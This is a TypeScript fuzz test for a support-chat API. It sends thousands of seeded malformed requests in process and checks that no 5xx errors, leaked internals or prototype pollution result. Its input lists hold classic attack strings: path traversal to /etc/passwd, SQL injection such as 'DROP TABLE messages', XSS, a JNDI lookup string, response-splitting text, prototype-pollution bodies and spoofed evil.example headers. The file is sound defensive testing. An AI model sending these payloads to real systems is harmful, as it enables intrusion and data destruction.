// A seeded fuzzer: at least 10,000 malformed or hostile requests across every route of the OpenAPI document
// (wrong types, huge values, deep nesting, unicode edge cases, NUL bytes, invalid UTF-8, path tricks, odd methods,
// bad headers, content types and query strings, prototype-pollution keys), in process through app.inject.
// Expected: zero 5xx, every error in the `{ error: { code, message } }` contract without internals, and the
// server healthy and fully working afterwards. FUZZ_RUNS and FUZZ_SEED reproduce or widen a run.

import fc from "fast-check";
import type { InjectOptions, LightMyRequestResponse } from "fastify";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { testDatabases } from "../support/databases.ts";
import { addAgent, bearer, newConversation, postMessage, startTandem } from "../support/tandem.ts";
import { type ApiRoute, documentedRoutes, errorBodyProblem, routeKey } from "./fixtures.ts";

const RUNS = Number(process.env.FUZZ_RUNS ?? 10_000);
const SEED = Number(process.env.FUZZ_SEED ?? 20_261_123);
const CONCURRENCY = 8;

// ---------------------------------------------------------------------------------------------------------------
// Hostile material

const HOSTILE_STRINGS = [
  "",
  " ",
  "\u0000",
  "a\u0000b",
  "\ud800",
  "\udfff",
  "x\ud83d",
  "\ude00y",
  "\ud83d\ude00",
  "\u202e\u0645\u0631\u062d\u0628\u0627\u202c",
  "\u200f\u200e",
  "\u200b\u200c\u200d",
  "\ufeff",
  "\uffff",
  "\ufffd",
  "\u2028\u2029",
  "e\u0301\u0301\u0301\u0301\u0301",
  "Z\u0364\u0354\u0367\u0311a\u0308\u0356\u032dl\u036e\u0312\u036b",
  "\ud835\udd7f\ud835\udd86",
  "\u0130\u0131\u00df\u01c5",
  "\r\n\r\nHTTP/1.1 200 OK\r\n",
  "\t\u000b\f\u0007\u001b[31m",
  "../../../../etc/passwd",
  "..%2f..%2f..%2fetc%2fpasswd",
  "%2e%2e%2f",
  "..\\..\\windows\\win.ini",
  "file:///etc/passwd",
  "%00",
  "%",
  "%ZZ",
  "%C0%AF",
  "%ED%A0%80",
  "\u00c0\u00af",
  "__proto__",
  "constructor",
  "prototype",
  "toString",
  "hasOwnProperty",
  "' OR '1'='1",
  '"; DROP TABLE messages; --',
  "1; SELECT pg_sleep(10)",
  '{"$gt":""}',
  "<script>alert(1)</script>",
  "javascript:alert(1)",
  "${jndi:ldap://x/a}",
  "{{7*7}}",
  "%s%s%s%n",
  "NaN",
  "Infinity",
  "-0",
  "1e309",
  "null",
  "true",
  "me",
  "ai",
  "waiting_human,human",
  "resolved",
  "admin",
  "online",
  "fuzz@example.test",
  "a".repeat(65),
  "a".repeat(129),
  "a".repeat(201),
  "a".repeat(1025),
  "x".repeat(9000),
  "\u00e9".repeat(4097),
  "\ud83d\ude00".repeat(2049),
];
/** Numbers as raw JSON text, so overlong and out-of-range literals reach the parser as written. */
const RAW_NUMBERS = [
  "0",
  "-0",
  "1",
  "-1",
  "2",
  "3",
  "4",
  "1.5",
  "1e309",
  "-1e309",
  "1e-400",
  "123456789012345678901234567890",
  "9007199254740993",
  "1E2",
  "-9223372036854775809",
  "0.0000000000000000000000001",
  "1000000",
  "99999999999999999999999999999999999999e99",
];
const KEYS = [
  "__proto__",
  "constructor",
  "prototype",
  "toString",
  "valueOf",
  "__defineGetter__",
  "isAdmin",
  "role",
  "internal",
  "text",
  "clientMessageId",
  "email",
  "password",
  "tier",
  "note",
  "toAgentId",
  "toTier",
  "presence",
  "customer",
  "channel",
  "",
  "\u0000",
  "\ud800",
];
const RAW_BODIES = [
  "{",
  "}",
  '{"a":}',
  "{'a':1}",
  '{"a":1,}',
  "[1,2,]",
  '{"a":1}garbage',
  "\ufeff{}",
  '{"a":NaN}',
  '{"a":Infinity}',
  '{"a":undefined}',
  "/* c */{}",
  '{"a":"\\x41"}',
  '{"a":"\\ud800"}',
  '{"a":"\\u0000"}',
  '"just a string"',
  "12",
  "null",
  "true",
  "[]",
  '{"__proto__":{"isAdmin":true,"role":"admin"}}',
  '{"constructor":{"prototype":{"polluted":"yes"}}}',
  '{"a":1,"a":2}',
  '{"text":"a\u0000b","clientMessageId":"x"}',
  " ",
  "\n\n",
  '{"text":1e999999}',
];
const RAW_BYTES = [
  [0xc0, 0xaf],
  [0xed, 0xa0, 0x80],
  [0xff, 0xfe, 0x7b, 0x7d],
  [0x7b, 0x22, 0x61, 0x22, 0x3a, 0x22, 0xc3, 0x22, 0x7d],
  [0x7b, 0x22, 0x74, 0x65, 0x78, 0x74, 0x22, 0x3a, 0x22, 0xe2, 0x82, 0x22, 0x7d],
  [0x7b, 0x22, 0x61, 0x22, 0x3a, 0x22, 0x00, 0x22, 0x7d],
  [0xf8, 0x88, 0x80, 0x80, 0x80],
  [0xef, 0xbb, 0xbf, 0x7b, 0x7d],
];
const CONTENT_TYPES = [
  "application/json; charset=utf-8",
  "application/json; charset=latin1",
  "APPLICATION/JSON",
  "text/plain",
  "application/x-www-form-urlencoded",
  "multipart/form-data; boundary=----x",
  "application/xml",
  "",
  "*/*",
  "application/json, text/plain",
  "application/vnd.api+json",
  "application/json;;;",
  "garbage",
  "application/json; charset=utf-16",
];
const PATH_SEGMENTS = [
  "..%2f..%2f",
  "%2e%2e",
  "..",
  ".",
  "%ZZ",
  "%",
  "%00",
  "%C0%AF",
  "%ED%A0%80",
  "a".repeat(65),
  "a".repeat(101),
  "a".repeat(5000),
  "%20",
  "me",
  "__proto__",
  "constructor",
  "*",
  "%2a",
  ";",
  "a;b=c",
  "%3F",
  "%2F",
  "%252e%252e",
  "\u00e9",
  "%F0%9F%98%80",
];
const PATH_MUTATIONS = [
  "",
  "/",
  "//",
  "/../../healthz",
  "/%2e%2e/%2e%2e/healthz",
  "/extra",
  "?",
  "#frag",
  ";jsessionid=1",
];
const METHODS = [
  "GET",
  "POST",
  "PUT",
  "PATCH",
  "DELETE",
  "OPTIONS",
  "HEAD",
  "PROPFIND",
  "TRACE",
  "SEARCH",
  "MKCOL",
  "LOCK",
  "PURGE",
  "CONNECT",
  "M-SEARCH",
];
const BAD_AUTH = [
  "Bearer",
  "Bearer ",
  "Bearer  tk_a_x",
  `bearer tk_c_${"x".repeat(43)}`,
  "Basic YWRtaW46YWRtaW4=",
  `Bearer ${"A".repeat(201)}`,
  "Bearer tk_a_../../",
  "Token abc",
  "Bearer a b",
  "Bearer \t x",
  "Bearer null",
  "Bearer undefined",
  "Bearer %00",
];
const EXTRA_HEADERS: Record<string, string>[] = [
  { "x-forwarded-for": "not-an-ip, ::ffff:999.1.1.1, 127.0.0.1" },
  { origin: "http://evil.example" },
  { origin: "null" },
  { accept: "application/xml" },
  { "content-encoding": "gzip" },
  { "accept-encoding": "gzip, br, zstd" },
  { "x-http-method-override": "DELETE" },
  { "x-forwarded-proto": "javascript" },
  { host: "evil.example" },
  { expect: "100-continue" },
  { range: "bytes=0-1" },
  { "if-modified-since": "garbage" },
  { "x-request-id": "\u00ff\u00fe" },
  { "accept-language": "x".repeat(8000) },
  { "sec-websocket-key": "x" },
  { connection: "upgrade", upgrade: "websocket" },
  { "transfer-encoding": "chunked" },
];

/** Percent-encodes the UTF-8 bytes of a string (a lone surrogate becomes U+FFFD, as on the wire). */
const pct = (s: string) =>
  [...Buffer.from(s, "utf8")]
    .map((b) =>
      /[A-Za-z0-9\-_.~]/.test(String.fromCharCode(b))
        ? String.fromCharCode(b)
        : `%${b.toString(16).toUpperCase().padStart(2, "0")}`,
    )
    .join("");

// ---------------------------------------------------------------------------------------------------------------
// The request generator: fast-check arbitraries over symbolic choices, resolved against the live world later.

const hostileString = fc.oneof(
  { weight: 5, arbitrary: fc.constantFrom(...HOSTILE_STRINGS) },
  {
    weight: 2,
    arbitrary: fc.string({
      unit: fc.integer({ min: 0, max: 0xffff }).map((c) => String.fromCharCode(c)),
      maxLength: 40,
    }),
  },
  { weight: 2, arbitrary: fc.string({ unit: "binary", maxLength: 40 }) },
);
const rawJsonString = hostileString.map((s) => JSON.stringify(s));
const rawKey = fc.oneof(fc.constantFrom(...KEYS), hostileString).map((k) => JSON.stringify(k));
const { value: rawJsonValue } = fc.letrec<{ value: string }>((tie) => ({
  value: fc.oneof(
    { maxDepth: 4, depthSize: "small" },
    rawJsonString,
    fc.constantFrom(...RAW_NUMBERS),
    fc.constantFrom("true", "false", "null"),
    fc.array(tie("value"), { maxLength: 4 }).map((a) => `[${a.join(",")}]`),
    fc
      .array(fc.tuple(rawKey, tie("value")), { maxLength: 5 })
      .map((kv) => `{${kv.map(([k, v]) => `${k}:${v}`).join(",")}}`),
  ),
}));

type BodyChoice =
  | { kind: "none" }
  | { kind: "valid" }
  | { kind: "mutate"; field: number; value: string; op: "replace" | "delete" | "extraKey"; extraKey: string }
  | { kind: "random"; raw: string }
  | { kind: "nested"; depth: number; shape: "array" | "object" }
  | { kind: "raw"; text: string }
  | { kind: "bytes"; bytes: number[] }
  | { kind: "huge"; size: number };

const bodyChoice: fc.Arbitrary<BodyChoice> = fc.oneof(
  { weight: 1, arbitrary: fc.constant({ kind: "none" as const }) },
  { weight: 3, arbitrary: fc.constant({ kind: "valid" as const }) },
  {
    weight: 8,
    arbitrary: fc.record({
      kind: fc.constant("mutate" as const),
      field: fc.nat(20),
      value: rawJsonValue,
      op: fc.constantFrom("replace" as const, "replace" as const, "delete" as const, "extraKey" as const),
      extraKey: rawKey,
    }),
  },
  { weight: 3, arbitrary: rawJsonValue.map((raw) => ({ kind: "random" as const, raw })) },
  {
    weight: 1,
    arbitrary: fc.record({
      kind: fc.constant("nested" as const),
      depth: fc.constantFrom(64, 1_000, 10_000, 40_000),
      shape: fc.constantFrom("array" as const, "object" as const),
    }),
  },
  { weight: 2, arbitrary: fc.constantFrom(...RAW_BODIES).map((text) => ({ kind: "raw" as const, text })) },
  { weight: 1, arbitrary: fc.constantFrom(...RAW_BYTES).map((bytes) => ({ kind: "bytes" as const, bytes })) },
  {
    weight: 1,
    arbitrary: fc.constantFrom(70_000, 1_000_000).map((size) => ({ kind: "huge" as const, size })),
  },
);

type AuthChoice =
  | { kind: "none" }
  | { kind: "ownCustomer" }
  | { kind: "customer"; index: number }
  | { kind: "staff"; role: "agent" | "supervisor" | "admin" }
  | { kind: "bad"; header: string }
  | { kind: "cookie"; value: string | "staff" };

const authChoice: fc.Arbitrary<AuthChoice> = fc.oneof(
  { weight: 2, arbitrary: fc.constant({ kind: "none" as const }) },
  { weight: 3, arbitrary: fc.constant({ kind: "ownCustomer" as const }) },
  { weight: 1, arbitrary: fc.nat(100).map((index) => ({ kind: "customer" as const, index })) },
  {
    weight: 4,
    arbitrary: fc
      .constantFrom("agent" as const, "supervisor" as const, "admin" as const)
      .map((role) => ({ kind: "staff" as const, role })),
  },
  { weight: 2, arbitrary: fc.constantFrom(...BAD_AUTH).map((header) => ({ kind: "bad" as const, header })) },
  {
    weight: 1,
    arbitrary: fc
      .constantFrom(
        "staff",
        "tandem_session=%ZZ",
        `tandem_session=${"a".repeat(5000)}`,
        "a=b; a=c",
        "=;=;;tandem_session",
        "tandem_session=x; tandem_session=y",
      )
      .map((value) => ({ kind: "cookie" as const, value })),
  },
);

const queryChoice = fc.oneof(
  { weight: 4, arbitrary: fc.constant("") },
  { weight: 4, arbitrary: fc.tuple(fc.nat(10), hostileString).map(([k, v]) => `key:${k}=${pct(v)}`) },
  {
    weight: 2,
    arbitrary: fc
      .tuple(fc.nat(10), fc.constantFrom(...RAW_NUMBERS, "", " 1 ", "0x10", "1_000", "abc"))
      .map(([k, v]) => `key:${k}=${pct(v)}`),
  },
  {
    weight: 1,
    arbitrary: fc.tuple(fc.constantFrom(...KEYS), hostileString).map(([k, v]) => `raw:${pct(k)}=${pct(v)}`),
  },
  { weight: 1, arbitrary: fc.tuple(fc.nat(10), fc.nat(10)).map(([a, b]) => `dup:${a}:${b}`) },
  {
    weight: 1,
    arbitrary: fc.constantFrom(
      "raw:%",
      "raw:&&&",
      "raw:=&=",
      "raw:a=%ZZ",
      "raw:a[b][c]=1",
      "raw:a[]=1&a[]=2",
      `raw:${"a=1&".repeat(2000)}`,
      "raw:token=x",
    ),
  },
);

const caseArb = fc.record({
  route: fc.nat(1_000),
  method: fc.oneof(
    { weight: 17, arbitrary: fc.constant("route") },
    { weight: 3, arbitrary: fc.constantFrom(...METHODS) },
  ),
  id: fc.oneof(
    { weight: 4, arbitrary: fc.constant({ kind: "own" as const }) },
    { weight: 2, arbitrary: fc.nat(100).map((index) => ({ kind: "pool" as const, index })) },
    { weight: 1, arbitrary: fc.constant({ kind: "missing" as const }) },
    { weight: 2, arbitrary: fc.constantFrom(...PATH_SEGMENTS).map((raw) => ({ kind: "raw" as const, raw })) },
    { weight: 1, arbitrary: hostileString.map((s) => ({ kind: "raw" as const, raw: pct(s) || "%20" })) },
  ),
  pathMutation: fc.oneof(
    { weight: 9, arbitrary: fc.constant("") },
    { weight: 1, arbitrary: fc.constantFrom(...PATH_MUTATIONS) },
  ),
  query: queryChoice,
  body: bodyChoice,
  contentType: fc.oneof(
    { weight: 6, arbitrary: fc.constant("application/json") },
    { weight: 1, arbitrary: fc.constantFrom(...CONTENT_TYPES) },
  ),
  auth: authChoice,
  headers: fc.oneof(
    { weight: 8, arbitrary: fc.constant({}) },
    { weight: 1, arbitrary: fc.constantFrom(...EXTRA_HEADERS) },
  ),
});
type FuzzCase = typeof caseArb extends fc.Arbitrary<infer T> ? T : never;

// ---------------------------------------------------------------------------------------------------------------
// A valid-looking instance of a JSON Schema (from the OpenAPI document): the base the mutations start from.

type Schema = {
  type?: string | string[];
  properties?: Record<string, Schema>;
  required?: string[];
  enum?: unknown[];
  const?: unknown;
  anyOf?: Schema[];
  oneOf?: Schema[];
  format?: string;
  minimum?: number;
  minLength?: number;
  items?: Schema;
};
let unique = 0;
function sampleOf(s: Schema | undefined, name = ""): unknown {
  if (!s) return {};
  if (s.const !== undefined) return s.const;
  if (s.enum) return s.enum[0];
  const alt = s.anyOf ?? s.oneOf;
  if (alt?.length) return sampleOf(alt.find((x) => x.type !== "null") ?? alt[0], name);
  const type = Array.isArray(s.type) ? s.type.find((x) => x !== "null") : s.type;
  switch (type) {
    case "object":
      return Object.fromEntries(Object.entries(s.properties ?? {}).map(([k, v]) => [k, sampleOf(v, k)]));
    case "array":
      return [];
    case "integer":
    case "number":
      return s.minimum ?? 1;
    case "boolean":
      return false;
    case "string":
      if (s.format === "email" || name === "email") return `fuzz-${unique++ % 4}@example.test`;
      if (name === "clientMessageId") return `fuzz-${unique++}`;
      if (name === "password") return "fuzz-password-123";
      return "fuzz text";
    default:
      return {};
  }
}

// ---------------------------------------------------------------------------------------------------------------

/** A live Tandem with staff, a pool of conversations in every state, and the documented routes. */
async function buildWorld(databaseUrl: string) {
  // The real triage runs on every fuzzed message.
  const t = await startTandem({ DATABASE_URL: databaseUrl, RATE_LIMIT_LOGIN_PER_MINUTE: "2" });
  const routes = await documentedRoutes(t);
  const staff = {
    agent: await addAgent(t, "fuzz-agent@example.test", { role: "agent", capacity: 1000 }),
    supervisor: await addAgent(t, "fuzz-supervisor@example.test", { role: "supervisor" }),
    admin: await addAgent(t, "fuzz-admin@example.test", { role: "admin" }),
  };
  // Logout revokes every session of its user: a logout with a staff token uses this user instead, so the fuzz
  // keeps its agents (the one session ends on the first such request; later ones exercise the refusal).
  const sacrificial = await addAgent(t, "fuzz-logout@example.test", { role: "agent" });
  const pool = await Promise.all(Array.from({ length: 24 }, () => newConversation(t.app, { name: "Fuzz" })));
  for (const [i, c] of pool.entries()) {
    if (i % 3 === 0) continue;
    await postMessage(t.app, c.id, c.token, {
      clientMessageId: "seed",
      text: "hello, I need help with my order",
    });
    if (i % 3 === 2)
      await t.app.inject({
        method: "POST",
        url: `/api/v1/conversations/${c.id}/claim`,
        headers: bearer(staff.agent.token),
      });
  }
  return { t, routes, staff, sacrificial, pool };
}
type World = Awaited<ReturnType<typeof buildWorld>>;

function bodySchemaOf(route: ApiRoute): Schema | undefined {
  const rb = route.op.requestBody as { content?: Record<string, { schema?: Schema }> } | undefined;
  return rb?.content?.["application/json"]?.schema;
}
function queryKeysOf(route: ApiRoute): string[] {
  const params = (route.op.parameters ?? []) as { in: string; name: string }[];
  return params.filter((p) => p.in === "query").map((p) => p.name);
}

function buildBody(choice: BodyChoice, route: ApiRoute): string | Buffer | undefined {
  const schema = bodySchemaOf(route);
  const base = (sampleOf(schema) ?? {}) as Record<string, unknown>;
  switch (choice.kind) {
    case "none":
      return undefined;
    case "valid":
      return JSON.stringify(base);
    case "mutate": {
      const keys = Object.keys(base);
      const entries = keys.map((k) => [JSON.stringify(k), JSON.stringify(base[k])] as [string, string]);
      const at = keys.length ? choice.field % keys.length : -1;
      if (choice.op === "replace" && at >= 0) (entries[at] as [string, string])[1] = choice.value;
      if (choice.op === "delete" && at >= 0) entries.splice(at, 1);
      if (choice.op === "extraKey" || at < 0) entries.push([choice.extraKey, choice.value]);
      return `{${entries.map(([k, v]) => `${k}:${v}`).join(",")}}`;
    }
    case "random":
      return choice.raw;
    case "nested":
      return choice.shape === "array"
        ? "[".repeat(choice.depth) + "]".repeat(choice.depth)
        : `${'{"a":'.repeat(choice.depth)}1${"}".repeat(choice.depth)}`;
    case "raw":
      return choice.text;
    case "bytes":
      return Buffer.from(choice.bytes);
    case "huge":
      return JSON.stringify({ ...base, text: "x".repeat(choice.size) });
  }
}

function buildQuery(q: string, route: ApiRoute): string {
  if (!q) return "";
  const keys = [...queryKeysOf(route), "token", "after", "limit", "status", "tier", "assignee", "before"];
  const pick = (n: number) => keys[n % keys.length] as string;
  if (q.startsWith("key:")) {
    const [, n, ...rest] = q.split(/[:=]/);
    return `?${pick(Number(n))}=${rest.join("=")}`;
  }
  if (q.startsWith("dup:")) {
    const [, a, b] = q.split(":");
    return `?${pick(Number(a))}=1&${pick(Number(a))}=2&${pick(Number(b))}=-1`;
  }
  return `?${q.slice(4)}`;
}

function buildRequest(w: World, c: FuzzCase): { route: ApiRoute; options: InjectOptions } {
  const { routes, pool, staff, sacrificial } = w;
  const route = routes[c.route % routes.length] as ApiRoute;
  const own = pool[c.route % pool.length] as (typeof pool)[number];
  const id =
    c.id.kind === "own"
      ? own.id
      : c.id.kind === "pool"
        ? (pool[c.id.index % pool.length] as (typeof pool)[number]).id
        : c.id.kind === "missing"
          ? "00000000-0000-4000-8000-000000000000"
          : c.id.raw;
  const path = route.path.replace(/\{[^}]+\}/g, id) + c.pathMutation;
  const url = path + buildQuery(c.query, route);
  const method = c.method === "route" ? route.method : c.method;
  const headers: Record<string, string> = { ...c.headers };
  const isLogout = route.path === "/api/v1/auth/logout";
  if (c.auth.kind === "ownCustomer") headers.authorization = `Bearer ${own.token}`;
  if (c.auth.kind === "customer")
    headers.authorization = `Bearer ${(pool[c.auth.index % pool.length] as (typeof pool)[number]).token}`;
  if (c.auth.kind === "staff")
    headers.authorization = `Bearer ${isLogout ? sacrificial.token : staff[c.auth.role].token}`;
  if (c.auth.kind === "bad") headers.authorization = c.auth.header;
  if (c.auth.kind === "cookie")
    headers.cookie =
      c.auth.value === "staff"
        ? `tandem_session=${isLogout ? sacrificial.token : staff.agent.token}`
        : c.auth.value;
  const body = method === "GET" || method === "HEAD" ? undefined : buildBody(c.body, route);
  if (body !== undefined && c.contentType !== "") headers["content-type"] = c.contentType;
  return {
    route,
    options: { method: method as "GET", url, headers, ...(body !== undefined ? { payload: body } : {}) },
  };
}

interface Finding {
  request: string;
  status: number;
  body: string;
  problem: string;
}

describe.each(testDatabases())("fuzzing the API on $name", (db) => {
  let w: World;
  let drop = async () => {};
  beforeAll(async () => {
    const created = await db.create();
    drop = created.drop;
    w = await buildWorld(created.url);
  });
  afterAll(async () => {
    await w?.t.close();
    await drop();
  });
  const cases = fc.sample(caseArb, { numRuns: RUNS, seed: SEED }) as FuzzCase[];
  const statuses = new Map<number, number>();
  const perRoute = new Map<string, number>();
  const findings: Finding[] = [];
  const latencies: number[] = [];
  let sent = 0;

  it(`sends ${RUNS} hostile requests (seed ${SEED}) and never answers 5xx or outside the error contract`, {
    timeout: 600_000,
  }, async () => {
    const check = (route: ApiRoute, options: InjectOptions, res: LightMyRequestResponse) => {
      const describeReq = () =>
        `${options.method} ${String(options.url).slice(0, 160)} ${JSON.stringify(options.headers).slice(0, 160)} ${String(options.payload ?? "").slice(0, 160)}`;
      statuses.set(res.statusCode, (statuses.get(res.statusCode) ?? 0) + 1);
      perRoute.set(routeKey(route), (perRoute.get(routeKey(route)) ?? 0) + 1);
      if (res.statusCode >= 500)
        findings.push({
          request: describeReq(),
          status: res.statusCode,
          body: res.body.slice(0, 300),
          problem: "5xx",
        });
      const problem = errorBodyProblem(res, String(options.method));
      if (problem)
        findings.push({
          request: describeReq(),
          status: res.statusCode,
          body: res.body.slice(0, 300),
          problem,
        });
    };
    for (let i = 0; i < cases.length; i += CONCURRENCY) {
      await Promise.all(
        cases.slice(i, i + CONCURRENCY).map(async (c) => {
          const { route, options } = buildRequest(w, c);
          const started = performance.now();
          const res = await w.t.app.inject(options).catch((err: Error) => err);
          latencies.push(performance.now() - started);
          sent++;
          if (res instanceof Error) {
            findings.push({
              request: `${options.method} ${String(options.url).slice(0, 160)}`,
              status: 0,
              body: res.message,
              problem: "inject failed",
            });
            return;
          }
          check(route, options, res);
        }),
      );
    }
    const summary = [...statuses.entries()]
      .sort(([a], [b]) => a - b)
      .map(([s, n]) => `${s}:${n}`)
      .join(" ");
    latencies.sort((a, b) => a - b);
    console.info(
      `fuzz: ${sent} requests, seed ${SEED}; statuses ${summary}; p50 ${latencies[Math.floor(sent / 2)]?.toFixed(1)} ms, p99 ${latencies[Math.floor(sent * 0.99)]?.toFixed(1)} ms, max ${latencies.at(-1)?.toFixed(0)} ms`,
    );
    expect(findings.slice(0, 10), `${findings.length} findings`).toEqual([]);
    expect(sent).toBe(RUNS);
  });

  it("reached every documented route, and a spread of outcomes (valid requests too)", () => {
    const { routes } = w;
    for (const r of routes)
      expect(perRoute.get(routeKey(r)) ?? 0, routeKey(r)).toBeGreaterThanOrEqual(RUNS / routes.length / 3);
    const count = (pred: (s: number) => boolean) =>
      [...statuses].filter(([s]) => pred(s)).reduce((a, [, n]) => a + n, 0);
    expect(count((s) => s >= 200 && s < 300)).toBeGreaterThan(RUNS / 50);
    for (const s of [400, 401, 403, 404, 409, 413, 415, 429])
      expect(statuses.get(s) ?? 0, `status ${s}`).toBeGreaterThan(0);
  });

  it("answers every request in good time (no pathological input)", () => {
    expect(latencies.at(-1) ?? 0).toBeLessThan(5_000);
  });

  it("is healthy afterwards: probes, a full conversation, and no polluted prototypes", async () => {
    const { t, staff } = w;
    expect((await t.app.inject({ method: "GET", url: "/healthz" })).statusCode).toBe(200);
    expect((await t.app.inject({ method: "GET", url: "/readyz" })).statusCode).toBe(200);

    // Fuzzing may have left staff online with room, and auto-assignment would hand them the conversation below before
    // the new agent's claim: everyone goes offline first, so the flow is the same whatever the seed reached.
    for (const u of await t.store.listUsers()) await t.store.updateUser(u.id, { presence: "offline" });
    const c = await newConversation(t.app, { name: "After Fuzz", email: "after@example.test" });
    expect(
      (await postMessage(t.app, c.id, c.token, { clientMessageId: "a1", text: "Where is my parcel?" }))
        .statusCode,
    ).toBe(201);
    const agent = await addAgent(t, "after-fuzz@example.test");
    const claim = await t.app.inject({
      method: "POST",
      url: `/api/v1/conversations/${c.id}/claim`,
      headers: bearer(agent.token),
    });
    expect(claim.statusCode, claim.body).toBe(200);
    expect(
      (await postMessage(t.app, c.id, agent.token, { clientMessageId: "r1", text: "It ships today." }))
        .statusCode,
    ).toBe(201);
    const messages = await t.app.inject({
      method: "GET",
      url: `/api/v1/conversations/${c.id}/messages`,
      headers: bearer(c.token),
    });
    expect(messages.json().messages.map((m: { text: string }) => m.text)).toEqual(
      expect.arrayContaining(["Where is my parcel?", "It ships today."]),
    );
    const resolve = await t.app.inject({
      method: "POST",
      url: `/api/v1/conversations/${c.id}/resolve`,
      headers: bearer(agent.token),
    });
    expect(resolve.json().conversation.status).toBe("resolved");
    for (const role of ["agent", "supervisor", "admin"] as const) {
      expect(
        (await t.app.inject({ method: "GET", url: "/api/v1/me", headers: bearer(staff[role].token) }))
          .statusCode,
        role,
      ).toBe(200);
    }

    expect(Object.keys(Object.prototype)).toEqual([]);
    const probe: Record<string, unknown> = {};
    expect([probe.isAdmin, probe.role, probe.polluted]).toEqual([undefined, undefined, undefined]);
  });
});
